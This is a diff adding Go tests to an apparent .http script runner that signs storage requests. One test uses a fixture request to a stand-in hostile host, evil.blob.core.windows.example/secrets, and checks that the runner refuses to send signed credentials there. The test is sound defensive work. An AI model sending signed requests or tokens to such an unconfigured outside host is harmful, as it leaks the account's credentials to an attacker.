@@ -147,3 +147,37 @@ func TestRunnerSendsTheTokenOfAnAccess(t *testing.T) {
 		t.Errorf("the report shows the signature:\n%s", out.String())
 	}
 }
+
+func TestARefusalNamesPlaceAndFlag(t *testing.T) {
+	t.Parallel()
+	var out strings.Builder
+	path := scriptFile(t, "###\nGET {{table}}/Tables\n\n###\nGET http://evil.blob.core.windows.example/secrets\n")
+	if err := command(t.Context(), []string{"run", path, "-table", start(t)["table"]}, &out); err == nil {
+		t.Error("the script reached its end")
+	}
+	for _, want := range []string{path + ":5 ", "no -blob names the account http://evil.blob.core.windows.example", "sends to http://127.0.0.1:"} {
+		if !strings.Contains(out.String(), want) {
+			t.Errorf("the report lacks %q:\n%s", want, out.String())
+		}
+	}
+	if i, j := strings.Index(out.String(), "sends to"), strings.Index(out.String(), "ok  "); i > j {
+		t.Errorf("where requests go is said after the first one:\n%s", out.String())
+	}
+}
+
+// Bug 8: a "+" in a query string is a space to the service, and so it is signed.
+func TestRunnerSignsWhatTheServiceReads(t *testing.T) {
+	t.Parallel()
+	urls := start(t)
+	for _, query := range []string{"a%20b", "a+b", "a%2Bb", "a%2bb", "a=b", "%F0%9F%98%80", "''", "(a)!*", "a|b", "[a]"} {
+		file := filepath.Join(t.TempDir(), "x.http")
+		text := "###\nGET {{blob}}/?comp=list&prefix=" + query + "\n\n# ?? status == 200\n"
+		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		var out strings.Builder
+		if err := command(t.Context(), []string{"run", file, "-blob", urls["blob"]}, &out); err != nil {
+			t.Errorf("prefix=%s: %v\n%s", query, err, out.String())
+		}
+	}
+}
